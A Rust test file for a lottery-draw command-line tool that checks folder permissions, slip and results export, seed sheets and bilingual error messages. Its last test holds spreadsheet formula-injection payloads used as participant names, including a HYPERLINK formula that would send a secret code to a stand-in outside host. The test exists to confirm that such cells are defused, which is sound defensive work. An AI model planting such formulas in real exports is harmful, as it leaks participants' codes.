//! Issue 17: what the organiser hands out and keeps. The two folders and
//! their modes, `commit --force` refused over a drawn pot, `slips`,
//! `results`, `seed-sheet`, typed seeds, and a commitment or receipt given
//! where a transcript belongs. Every expectation is read from the files the
//! binary wrote (the codes are random).

mod common;

use common::*;
use serde_json::Value;

/// The receipt of each drawn ticket, in drawn order, read from the transcript and receipts.jsonl.
fn drawn_receipts(p: &Pot) -> Vec<Value> {
    let receipts = p.receipts_json();
    p.transcript_json()["result"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| receipts.iter().find(|x| x["leaf"] == r["leaf"]).expect("every drawn ticket has a receipt").clone())
        .collect()
}

#[test]
fn commit_splits_public_and_private_with_their_modes() {
    let p = Pot::committed();
    let public = p.out.join("public");
    let private = p.out.join("private");
    let mut top: Vec<String> =
        std::fs::read_dir(&p.out).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    top.sort();
    assert_eq!(top, ["private", "public"], "nothing public or private beside the two folders");
    assert_eq!(mode(&private), 0o700, "private/");
    for f in ["seed", "receipts.jsonl", "README.txt"] {
        assert_eq!(mode(&private.join(f)), 0o600, "private/{f}");
    }
    assert_eq!(mode(&public.join("commitment.json")), 0o644 & !umask());
    // Nothing secret in public/: no code, no salt, no seed, no name.
    let seed = std::fs::read_to_string(p.seed()).unwrap();
    for e in std::fs::read_dir(&public).unwrap() {
        let text = std::fs::read_to_string(e.unwrap().path()).unwrap();
        assert!(!text.contains(seed.trim()));
        for r in p.receipts_json() {
            assert!(!text.contains(r["code"].as_str().unwrap()) && !text.contains(r["salt"].as_str().unwrap()));
        }
        for (_, _, name) in CANDIDATES {
            assert!(!text.contains(name), "{name} in public/");
        }
    }
    // The READMEs follow the language.
    let nl = Pot::new();
    succeeds(nl.commit_cmd().args(["--lang", "nl"]));
    let readme = std::fs::read_to_string(nl.out.join("private/README.txt")).unwrap();
    assert!(readme.contains("PRIVÉMAP"), "{readme}");
    let readme = std::fs::read_to_string(p.out.join("public/README.txt")).unwrap();
    assert!(readme.contains("may be published"), "{readme}");
}

#[test]
fn commit_force_never_replaces_a_drawn_pot() {
    let p = Pot::committed();
    // The transcript in public/, as ceremony writes it.
    let t = p.out.join("public/transcript.json");
    succeeds(&mut p.draw_cmd_with(&[&format!("room={ROOM}"), &format!("lotto={LOTTO}")], &t));
    let before = p.snapshot();
    for lang in ["en", "nl"] {
        let err = fails(p.commit_cmd_with(POT, &["--force"]).args(["--lang", lang]), 2, &["code: commit-drawn]"]);
        assert!(err.contains("--force") && err.contains("transcript.json"), "{err}");
    }
    assert_eq!(p.snapshot(), before, "the drawn pot's files are untouched");
    // Without a transcript of it, --force still replaces (the pot was never drawn).
    std::fs::remove_file(&t).unwrap();
    succeeds(&mut p.commit_cmd_with(POT, &["--force"]));
    assert_ne!(p.snapshot(), before);
}

#[test]
fn slips_hold_every_name_id_and_code_and_are_secret() {
    let p = Pot::committed();
    let out = p.path("slips.html");
    let run = |lang: &str, out: &std::path::Path, extra: &[&str]| {
        let mut c = p.cmd();
        c.args(["--lang", lang, "slips", "--commitment"])
            .arg(p.commitment())
            .arg("--receipts")
            .arg(p.receipts())
            .args(["--draw-date", "zaterdag 5 december 2026", "--out"])
            .arg(out)
            .args(extra);
        c
    };
    succeeds(&mut run("nl", &out, &["--page-url", "https://example.org/verify.html"]));
    assert_eq!(mode(&out), 0o600);
    let html = std::fs::read_to_string(&out).unwrap();
    for r in p.receipts_json() {
        let (id, code) = (r["id"].as_str().unwrap(), r["code"].as_str().unwrap());
        let name = r["columns"]["name"].as_str().unwrap();
        assert!(html.contains(&format!("data-id=\"{id}\" data-code=\"{code}\"")), "slip of {id}");
        assert!(html.contains(&potdraw_cli::report::esc(name)), "{name}");
        // The slip's language travels with it (issue 29): Dutch slips open the page in Dutch.
        let url = potdraw_cli::slips::fragment_url("https://example.org/verify.html", id, code, "nl");
        assert!(url.ends_with(&format!("&code={code}&lang=nl")), "{url}");
        assert!(html.contains(&format!("data-content=\"{}\"", potdraw_cli::report::esc(&url))), "QR of {id}");
    }
    assert!(html.contains("zaterdag 5 december 2026") && html.contains("controlecode"));
    // Issue 29: the address in readable form, the ticket as the projector shows
    // it, and no claim that nobody else has the code (the organiser's files do).
    assert!(html.contains("<dd class=\"\">example.org/verify.html</dd>"), "the address");
    for r in p.receipts_json() {
        let fp = potdraw_cli::render::fingerprint(r["leaf"].as_str().unwrap());
        assert!(html.contains(&format!("Uw lot op het scherm: {fp}")), "{fp}");
    }
    assert!(!html.contains("Niemand anders") && !html.contains("overflow: hidden"));
    // Never over an existing file without --force.
    fails(&mut run("en", &out, &[]), 2, &["code: file-exists]"]);
    succeeds(&mut run("en", &out, &["--force"]));
    assert!(!std::fs::read_to_string(&out).unwrap().contains("<figure"), "no QR without --page-url");

    // The mail merge: id, name, code, then the other private columns.
    let csv = p.path("slips.csv");
    succeeds(&mut run("en", &csv, &["--format", "csv"]));
    assert_eq!(mode(&csv), 0o600);
    let mut rows = csv::Reader::from_path(&csv).unwrap();
    assert_eq!(rows.headers().unwrap().iter().collect::<Vec<_>>(), ["id", "name", "code"]);
    let got: Vec<Vec<String>> = rows.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
    let want: Vec<Vec<String>> = p
        .receipts_json()
        .iter()
        .map(|r| ["id", "", "code"].map(|k| if k.is_empty() { r["columns"]["name"].clone() } else { r[k].clone() }))
        .map(|v| v.iter().map(|x| x.as_str().unwrap().to_string()).collect())
        .collect();
    assert_eq!(got, want);
}

#[test]
fn slips_and_results_refuse_receipts_of_another_pot() {
    let p = Pot::drawn();
    let other = Pot::committed();
    for lang in ["en", "nl"] {
        let mut c = p.cmd();
        c.args(["--lang", lang, "slips", "--commitment"]).arg(p.commitment()).arg("--receipts").arg(other.receipts());
        c.args(["--draw-date", "5 December"]).arg("--out").arg(p.path("s.html"));
        fails(&mut c, 2, &["code: receipts-other-commitment]", other.commitment_json()["digest"].as_str().unwrap()]);
        let mut c = p.cmd();
        c.args(["--lang", lang, "results"]).arg(&p.transcript).arg("--receipts").arg(other.receipts());
        fails(&mut c, 2, &["code: receipts-other-commitment]"]);
    }
    assert!(!p.path("s.html").exists());
}

#[test]
fn results_name_the_drawn_in_drawn_order() {
    let p = Pot::drawn();
    let drawn = drawn_receipts(&p);
    assert_eq!(drawn.len(), K + R);
    let mut c = p.cmd();
    c.arg("results").arg(&p.transcript).arg("--receipts").arg(p.receipts()).arg("--json");
    let v: Value = serde_json::from_str(&succeeds(&mut c)).unwrap();
    let ids: Vec<&Value> = v["drawn"].as_array().unwrap().iter().map(|d| &d["id"]).collect();
    assert_eq!(ids, drawn.iter().map(|r| &r["id"]).collect::<Vec<_>>());
    let t = p.transcript_json();
    for (d, r) in v["drawn"].as_array().unwrap().iter().zip(t["result"].as_array().unwrap()) {
        assert_eq!((&d["role"], &d["rank"]), (&r["role"], &r["rank"]));
    }

    // The table for people: one line per drawn ticket, in order, with the name.
    let mut c = p.cmd();
    c.args(["--lang", "nl", "results"]).arg(&p.transcript).arg("--receipts").arg(p.receipts());
    let text = succeeds(&mut c);
    let lines: Vec<&str> = text.lines().filter(|l| l.starts_with("ontvanger ") || l.starts_with("reserve ")).collect();
    assert_eq!(lines.len(), K + R, "{text}");
    for (line, r) in lines.iter().zip(&drawn) {
        assert!(line.contains(r["columns"]["name"].as_str().unwrap()), "{line}");
    }

    // To a file: 0600, refused over an existing one.
    let out = p.path("results.csv");
    let mut c = p.cmd();
    c.arg("results").arg(&p.transcript).arg("--receipts").arg(p.receipts()).args(["--format", "csv", "--out"]);
    c.arg(&out);
    succeeds(&mut c);
    assert_eq!(mode(&out), 0o600);
    let csv = std::fs::read_to_string(&out).unwrap();
    assert_eq!(csv.lines().count(), 1 + K + R);
    fails(&mut c, 2, &["code: file-exists]"]);
}

#[test]
fn a_commitment_or_receipt_where_a_transcript_belongs_is_named() {
    let p = Pot::drawn();
    for (lang, commitment, receipt) in [
        ("en", "found a commitment", "found a receipt"),
        ("nl", "maar dit is de vastlegging", "maar dit is een bewijsje"),
    ] {
        for cmd in ["check", "verify"] {
            let mut c = p.cmd();
            c.args(["--lang", lang, cmd]).arg(p.commitment());
            if cmd == "check" {
                c.args(["--id", "A01", "--code", "0000"]);
            }
            fails(&mut c, 2, &["code: transcript-is-commitment]", commitment]);
            let mut c = p.cmd();
            c.args(["--lang", lang, cmd]).arg(p.receipts());
            fails(&mut c, 2, &["code: transcript-is-receipt]", receipt]);
        }
    }
}

#[test]
fn a_seed_typed_from_the_sheet_draws_and_a_missing_seed_says_what_to_do() {
    let p = Pot::committed();
    let sheet = p.path("seed.html");
    let mut c = p.cmd();
    c.args(["seed-sheet", "--commitment"]).arg(p.commitment()).arg("--seed").arg(p.seed()).arg("--out").arg(&sheet);
    succeeds(&mut c);
    assert_eq!(mode(&sheet), 0o600);
    let html = std::fs::read_to_string(&sheet).unwrap();
    let seed = std::fs::read_to_string(p.seed()).unwrap().trim().to_string();
    let start = html.find("<p id=\"seed\" class=\"seed\">").unwrap() + "<p id=\"seed\" class=\"seed\">".len();
    let grouped = &html[start..start + html[start..].find('<').unwrap()];
    assert_eq!(grouped.replace(' ', ""), seed);
    assert!(html.contains(&format!("data-content=\"{seed}\"")), "the QR code holds the seed");
    // As typed from paper: upper case, hyphens between the groups.
    let typed = p.path("typed-seed");
    std::fs::write(&typed, grouped.to_uppercase().replace(' ', "-")).unwrap();
    let mut c = p.cmd();
    c.arg("draw").arg("--commitment").arg(p.commitment()).arg("--seed").arg(&typed);
    c.args(["--entropy", &format!("room={ROOM}"), "--entropy", &format!("lotto={LOTTO}"), "--out"]).arg(&p.transcript);
    succeeds(&mut c);
    // The sheet of another pot's seed cannot be made.
    let other = Pot::committed();
    let mut c = p.cmd();
    c.args(["seed-sheet", "--commitment"]).arg(p.commitment()).arg("--seed").arg(other.seed());
    fails(c.arg("--out").arg(p.path("wrong.html")), 2, &["code: seed-mismatch]"]);
    assert!(!p.path("wrong.html").exists());
    // A missing seed: what it means and what to do, in both languages.
    std::fs::remove_file(p.seed()).unwrap();
    for (lang, says) in [("en", "publish a withdrawal"), ("nl", "ingetrokken")] {
        let mut c = p.cmd();
        c.args(["--lang", lang, "draw", "--commitment"]).arg(p.commitment()).arg("--seed").arg(p.seed());
        c.args(["--entropy", &format!("room={ROOM}"), "--entropy", &format!("lotto={LOTTO}"), "--out"]);
        fails(c.arg(p.path("t2.json")), 2, &["code: seed-missing]", says]);
    }
}

/// Issue 26, part 3: names from residents' own registrations that a
/// spreadsheet would run as formulas reach `slips.csv` (which holds every
/// code) and `results.csv` as text: each such cell starts with `'`, read
/// back by a CSV reader; every other cell is exactly the receipt's.
#[test]
fn csv_for_spreadsheets_never_carries_a_formula() {
    let hostile = [
        ("A01", "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")"),
        ("A02", "+31 6 12345678"),
        ("A03", "-Mo-"),
        ("B05", "@SUM(A1:A9)"),
        // Dutch Excel splits on `;`, another reader on a line break (attack review of issue 26).
        ("B06", "Jan;=1+1;"),
        ("B07", "Anna\n=2*21\n"),
        ("B08", "Kees;\"=HYPERLINK(B6&A2)\";"),
    ];
    let mut list = String::from("id,weight,name\n");
    for (id, weight, name) in CANDIDATES {
        let name = hostile.iter().find(|(h, _)| h == id).map_or(*name, |(_, n)| n);
        list.push_str(&format!("{id},{weight},\"{}\"\n", name.replace('"', "\"\"")));
    }
    let p = Pot::with_csv(list.as_bytes());
    succeeds(&mut p.commit_cmd());
    succeeds(&mut p.draw_cmd());
    let slips = p.path("slips.csv");
    let mut c = p.cmd();
    c.args(["slips", "--commitment"]).arg(p.commitment()).arg("--receipts").arg(p.receipts());
    c.args(["--draw-date", "zaterdag 5 december 2026", "--format", "csv", "--out"]).arg(&slips);
    succeeds(&mut c);
    let results = p.path("results.csv");
    let mut c = p.cmd();
    c.arg("results").arg(&p.transcript).arg("--receipts").arg(p.receipts()).args(["--format", "csv", "--out"]);
    succeeds(c.arg(&results));
    // What the test expects, by its own reading of the rule: a ' before each
    // part that starts like a formula (the start, and after , ; tab or a
    // line break, past quotes).
    let expected = |name: &str| -> String {
        let mut out = String::new();
        let mut start = true;
        for c in name.chars() {
            if start && matches!(c, '=' | '+' | '-' | '@') {
                out.push('\'');
            }
            out.push(c);
            start = matches!(c, ',' | ';' | '\t' | '\n' | '\r') || (start && c == '"');
        }
        out
    };
    let runs_as_formula = |cell: &str| {
        std::iter::once(cell).chain(cell.split([',', ';', '\t', '\n', '\r']).skip(1)).any(|part| {
            matches!(part.trim_start_matches('"').chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
        })
    };
    let mut seen = 0;
    for (file, name_at) in [(&slips, 1), (&results, 3)] {
        let mut rows = csv::Reader::from_path(file).unwrap();
        for row in rows.records() {
            let row = row.unwrap();
            let id = if name_at == 1 { &row[0] } else { &row[2] };
            let name = CANDIDATES.iter().find(|(i, _, _)| *i == id).map(|(_, _, n)| *n).unwrap();
            let name = hostile.iter().find(|(h, _)| *h == id).map_or(name, |(_, n)| n);
            let cell = &row[name_at];
            assert_eq!(cell, expected(name.trim()), "{} row of {id}", file.display());
            for other in row.iter() {
                assert!(!runs_as_formula(other), "{other:?}");
            }
            seen += usize::from(cell.starts_with('\''));
        }
    }
    assert!(seen >= 4, "the hostile names that start like a formula are in slips.csv at least: {seen}");
}
